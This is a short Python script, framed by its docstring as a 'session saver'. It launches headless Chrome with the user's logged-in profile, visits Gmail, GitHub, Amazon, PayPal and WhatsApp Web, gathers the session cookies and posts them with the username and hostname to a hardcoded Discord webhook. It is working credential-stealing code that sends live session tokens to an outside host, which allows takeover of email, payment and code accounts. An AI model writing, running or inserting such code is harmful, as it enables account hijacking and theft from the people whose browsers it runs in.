#!/usr/bin/env python3
""""Session saver": opens Chrome with the user's everyday profile (so it is
already logged in everywhere), visits a list of sites, collects the session
cookies and posts them to a Discord webhook "for safekeeping"."""
import json
import os
import time

import requests
from selenium import webdriver
from selenium.webdriver.chrome.options import Options

WEBHOOK = "https://discord.com/api/webhooks/1190023344556677/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"
SITES = [
    "https://mail.google.com/",
    "https://github.com/",
    "https://www.amazon.com/",
    "https://www.paypal.com/myaccount/",
    "https://web.whatsapp.com/",
]
USER_DATA_DIR = os.path.expanduser("~/.config/google-chrome")


def open_browser():
    opts = Options()
    opts.add_argument(f"--user-data-dir={USER_DATA_DIR}")
    opts.add_argument("--profile-directory=Default")
    opts.add_argument("--headless=new")
    return webdriver.Chrome(options=opts)


def collect(driver):
    jar = {}
    for site in SITES:
        try:
            driver.get(site)
            time.sleep(3)
            jar[site] = driver.get_cookies()
        except Exception as exc:
            jar[site] = {"error": str(exc)}
    return jar


def ship(jar):
    blob = json.dumps(jar, indent=1)
    # Discord limits message size, so attach the jar as a file.
    files = {"file": ("sessions.json", blob.encode(), "application/json")}
    payload = {"content": f"sessions from {os.environ.get('USER', '?')}@{os.uname().nodename}"}
    r = requests.post(WEBHOOK, data={"payload_json": json.dumps(payload)}, files=files, timeout=30)
    return r.status_code


def main():
    driver = open_browser()
    try:
        jar = collect(driver)
    finally:
        driver.quit()
    n = sum(len(v) for v in jar.values() if isinstance(v, list))
    print(f"saved {n} cookies: {ship(jar)}")


if __name__ == "__main__":
    main()
